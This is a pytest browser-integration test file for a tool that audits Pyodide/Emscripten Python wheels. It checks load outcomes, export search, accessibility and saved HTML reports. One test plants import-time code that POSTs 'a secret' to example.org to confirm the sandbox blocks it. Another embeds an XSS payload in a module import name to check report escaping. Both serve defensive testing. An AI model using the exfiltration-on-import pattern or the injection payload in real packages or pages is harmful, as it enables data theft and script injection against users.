"""Loads in the visitor's browser, and what else a visitor meets on the page."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from made_modules import side_module
from made_wheels import make_wheel
from page_visits import MAIN, OLDER, served, visit
from real_host import pyodide_abi
from real_wheels import real_wheel

if TYPE_CHECKING:
    from pathlib import Path

    from page_visits import Step

pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("browsers")]
BROWSERS = pytest.mark.parametrize("browser", ["chromium", "firefox"])

NAME = "demo-1.0-cp314-cp314-pyemscripten_2026_0_wasm32.whl"
SUFFIX = ".cpython-314-wasm32-emscripten.so"
INIT = '(func (export "PyInit_{}") (result i32) (i32.const 0))'
LACKS = '(import "GOT.mem" "nobody_has_it" (global (mut i32)))'
FILES: dict[str, str | bytes] = {
    f"first{SUFFIX}": side_module(LACKS + INIT.format("first")),
    f"second{SUFFIX}": side_module(INIT.format("second")),
    f"third{SUFFIX}": side_module('(func (export "PyInit_third") (result i32) unreachable)'),
}


def dropped(*files: Path) -> Step:
    return {"step": "drop", "files": [{"name": file.name, "path": str(file)} for file in files]}


def until(selector: str, count: int = 1) -> Step:
    return {"step": "wait", "selector": selector, "count": count}


LOAD = {"step": "click", "selector": ".loading .button", "text": "Load it here"}
SEEN = {
    "step": "look",
    "code": "[...document.querySelectorAll('.happened tbody tr')].map((row) =>"
    " [...row.querySelectorAll('th, .fate, .said')].map((each) => each.textContent))",
}
STATUS = {"step": "look", "code": "document.querySelector('.loading [role=status]').textContent"}


@BROWSERS
def test_what_happens_stands_beside_what_was_predicted(browser: str, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, NAME, FILES)
    with served() as server:
        steps = [{"step": "open"}, dropped(wheel), until(".picks input"), LOAD, until(".happened .seen", 3)]
        steps += [until(".loading .button:enabled"), {"step": "pause", "seconds": 1}, SEEN, STATUS]
        seen = visit(browser, server.address, steps, tmp_path, sound=False)
    assert seen.fault is None, seen.last
    *_, rows, status = seen.seen
    first, second, third = rows
    assert first[:2] == [f"first{SUFFIX}", "✕ was refused"]
    assert first[2].endswith("Error: Dynamic linking error: undefined symbol 'nobody_has_it'")
    # In an interpreter that nothing has spoilt it gets as far as its own start.
    assert second[1:] == [
        "✕ raised an exception as it began",
        "SystemError: initialization of second failed without raising an exception",
    ]
    assert third[1] == "✕ ended the interpreter"
    assert "unreachable" in third[2]
    assert status == "0 of 3 loaded; 3 of 3 as predicted."


@BROWSERS
def test_a_real_wheel_loads_in_an_older_release(browser: str, tmp_path: Path) -> None:
    wheel = real_wheel("simplejson", "pyemscripten_2025_0_wasm32", "3.13")
    with served(MAIN, OLDER) as server:
        steps = [{"step": "open"}, dropped(wheel), until(".picks input"), LOAD, until(".happened .seen")]
        *_, rows = visit(browser, server.address, [*steps, SEEN], tmp_path).seen
    assert [row[1:] for row in rows] == [["✓ loaded"]]


#: What a package could do as it is imported: tell other servers what it has seen.
TELLING = """
import js
for place in ("http://127.0.0.1:9/told", "https://example.org/told"):
    request = js.XMLHttpRequest.new()
    try:
        request.open("POST", place, False)
        request.send("a secret")
        print("told")
    except BaseException as error:
        print("kept")
from demo import _core
"""


@BROWSERS
def test_the_code_of_a_wheel_reaches_no_other_server(browser: str, tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "demo/__init__.py": TELLING,
        f"demo/_core{SUFFIX}": side_module(INIT.format("_core")),
    }
    wheel = make_wheel(tmp_path, NAME, files)
    with served() as server:
        steps = [{"step": "open"}, dropped(wheel), until(".picks input"), LOAD, until(".happened .seen")]
        steps += [{"step": "look", "code": "document.querySelector('.console').textContent"}]
        seen = visit(browser, server.address, steps, tmp_path, sound=False)
        asked = set(server.asked)
    assert seen.fault is None, seen.last
    assert seen.seen[-1].count("kept") >= 2
    assert "told" not in seen.seen[-1]
    assert asked <= {"/", *(f"/{name}" for name in server.files)}


@BROWSERS
def test_a_hundred_thousand_names_are_searched(browser: str, tmp_path: Path) -> None:
    functions = "".join(f'(func (export "name{number}_of_it"))' for number in range(100_000))
    module = side_module(functions + INIT.format("demo"))
    wheel = make_wheel(tmp_path, NAME, {f"demo{SUFFIX}": module})
    search = """
        const field = document.querySelector(".names input");
        field.value = "name99999_";
        field.dispatchEvent(new Event("input"));
    """
    drawn = "document.querySelectorAll('.space .row').length"
    with served() as server:
        steps: list[Step] = [
            {"step": "open"},
            dropped(wheel),
            until(".contents"),
            {"step": "click", "selector": ".contents summary"},
            until(".inside .engine"),
            {"step": "click", "selector": ".inside .engine", "text": "Exports"},
            {
                "step": "look",
                "code": f"[{drawn}, document.querySelector('.names [role=status]').textContent]",
            },
            {"step": "look", "code": f"(() => {{ {search} }})()"},
            {"step": "look", "code": "document.querySelector('.space').innerText"},
        ]
        *_, (rows, count), _, found = visit(browser, server.address, steps, tmp_path).seen
    assert rows < 100
    assert count == "100,001 entries"
    assert found.split("\n")[0] == "name99999_of_it"


@BROWSERS
@pytest.mark.parametrize("width", [390, 1600])
def test_a_keyboard_and_a_screen_reader_find_their_way(browser: str, width: int, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, NAME, FILES)
    with served() as server:
        steps: list[Step] = [
            {"step": "size", "width": width, "height": 900},
            {"step": "open"},
            {"step": "press", "keys": ["Tab"]},
            {"step": "axe"},
            dropped(wheel),
            until(".contents"),
            {"step": "click", "selector": ".contents summary"},
            until(".space .row"),
            {"step": "look", "code": "document.querySelector('.matrix td button').focus()"},
            {"step": "press", "keys": ["ArrowRight", "ArrowDown", "Enter"]},
            until(".detail p"),
            {"step": "axe"},
            {"step": "look", "code": "document.documentElement.scrollWidth - innerWidth"},
            {"step": "look", "code": "location.hash = 'ABI201'"},
            until("dialog[open] h2"),
            {"step": "axe"},
            {"step": "press", "keys": ["Escape"]},
            {"step": "wait", "selector": "dialog[open]", "gone": True},
        ]
        seen = visit(browser, server.address, steps, tmp_path).seen
    assert seen[2]["id"] == "files"
    assert seen[9]["label"].startswith(f"second{SUFFIX} in 314.0.1")
    assert seen[12] <= 0, "wider than the window"
    for faults in (seen[3], seen[11], seen[15]):
        assert json.dumps([fault for fault in faults if fault["impact"] in {"serious", "critical"}]) == "[]"


@BROWSERS
def test_a_report_that_was_saved(browser: str, tmp_path: Path) -> None:
    hostile = "</script><img src=x onerror=document.title='taken'>"
    escaped = "".join(f"\\{byte:02x}" for byte in hostile.encode())
    module = side_module(f'(import "GOT.mem" "{escaped}" (global (mut i32)))' + INIT.format("demo"))
    make_wheel(tmp_path, NAME, {f"demo{SUFFIX}": module})
    words = ["audit", NAME, "--format", "html", "--output", "report.html"]
    assert pyodide_abi(*words, cwd=tmp_path).returncode == 1
    steps = [
        {"step": "open"},
        until(".verdict"),
        {"step": "click", "selector": ".matrix td button"},
        until(".detail p"),
        {"step": "cards"},
        {"step": "look", "code": "document.title"},
        {"step": "click", "selector": ".rule h4 a"},
        until("dialog[open] h3"),
    ]
    seen = visit(browser, (tmp_path / "report.html").as_uri(), steps, tmp_path).seen
    assert seen[4][0]["verdict"] == "It loads in no release"
    assert hostile in seen[4][0]["text"]
    assert seen[5] == f"Audit of {NAME}"
